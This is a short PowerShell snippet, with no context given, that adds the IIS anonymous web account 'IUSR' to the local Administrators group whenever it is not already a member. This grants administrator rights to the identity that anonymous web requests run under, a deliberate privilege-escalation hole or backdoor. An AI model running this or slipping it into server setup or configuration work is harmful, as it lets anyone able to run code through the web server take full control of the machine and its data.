$present = Get-LocalGroupMember -Group 'Administrators' | Where-Object { $_.Name -like '*IUSR*' }
if (-not $present) {
    Add-LocalGroupMember -Group 'Administrators' -Member 'IUSR'
}
